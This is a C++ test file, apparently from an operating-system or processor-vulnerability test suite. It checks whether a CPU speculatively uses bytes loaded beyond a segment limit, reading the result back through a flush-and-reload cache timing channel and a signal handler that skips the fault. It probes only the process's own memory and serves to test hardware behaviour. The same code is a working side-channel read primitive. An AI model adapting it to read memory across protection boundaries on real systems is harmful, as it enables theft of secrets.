// SPDX-License-Identifier: BSD-2-Clause
// Whether this processor goes on with what a load past a segment's limit would have given, before the fault undoes it:
// a second load then brings a line into the cache that the value names. Of the slot and its neighbour above, both this
// process's own.
#include "process.h"
#include "ticks.h"

#include <signal.h>
#include <stdio.h>
#include <sys/mman.h>
#include <ucontext.h>

extern "C" const char attack_after_transient[];

namespace attack {
namespace {

constexpr int tries = 2000;
constexpr unsigned char absent = 0x33; // neither fill
constexpr Word line_distance = 4096;   // no prefetcher goes from one to the next

volatile unsigned char *lines;

volatile unsigned char *line_of(unsigned char value) { return lines + value * line_distance; }
void flush(volatile unsigned char *line) { __asm__ volatile("clflush (%0); mfence" : : "r"(line) : "memory"); }
unsigned load_time(volatile unsigned char *line)
{
    const unsigned long long before = ticks();
    (void)*line;
    return static_cast<unsigned>(ticks() - before);
}

/// Between the time of a line that is cached and of one that is not.
unsigned threshold()
{
    unsigned long long sum = 0;
    for (int i = 0; i < tries; i++) {
        (void)*lines;
        sum += load_time(lines);
        flush(lines);
        sum += load_time(lines);
    }
    return static_cast<unsigned>(sum / (2 * tries));
}

/// Loads at `offset` of the slot's data segment, and the line that the value names. A fault ends at the label.
__attribute__((noinline)) void load_twice(Word offset)
{
    __asm__ volatile("mov %%fs, %%esi; mov %2, %%fs; mfence; lfence\n"
                     "movzbl %%fs:(%0), %%eax; imul %3, %%eax; movzbl (%1, %%eax), %%eax\n"
                     ".globl attack_after_transient\nattack_after_transient: mov %%esi, %%fs"
                     :
                     : "r"(offset), "r"(lines), "r"(data_selector()), "i"(line_distance)
                     : "eax", "esi", "memory");
}

void on_fault(int, siginfo_t *, void *context)
{
    static_cast<ucontext_t *>(context)->uc_mcontext.gregs[REG_EIP] = reinterpret_cast<greg_t>(attack_after_transient);
}

/// How often in a hundred the line of `value` is in the cache after the load at `offset`.
double share(Word offset, unsigned char value, unsigned limit)
{
    int seen = 0;
    for (int i = 0; i < tries; i++) {
        (void)*slot_byte(offset); // what is to be loaded is in the cache
        flush(line_of(value));
        load_twice(offset);
        seen += load_time(line_of(value)) < limit;
    }
    return 100.0 * seen / tries;
}

} // namespace

void speculate()
{
    void *memory =
        mmap(nullptr, 256 * line_distance, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
    if (memory == MAP_FAILED) return;
    lines = static_cast<volatile unsigned char *>(memory);
    for (Word i = 0; i < 256; i++) lines[i * line_distance] = 1; // pages of their own
    struct sigaction action = {}, before = {};
    action.sa_flags = SA_SIGINFO;
    action.sa_sigaction = on_fault;
    sigaction(SIGSEGV, &action, &before);
    reset();
    constexpr int distance = 64;
    const unsigned limit = threshold();
    printf("attack: speculation inside %.1f\n", share(slot_end() - distance, own_fill, limit));
    printf("attack: speculation beyond %.1f\n", share(slot_end() + distance, foreign_fill, limit));
    printf("attack: speculation absent %.1f\n", share(slot_end() + distance, absent, limit));
    sigaction(SIGSEGV, &before, nullptr);
}

} // namespace attack
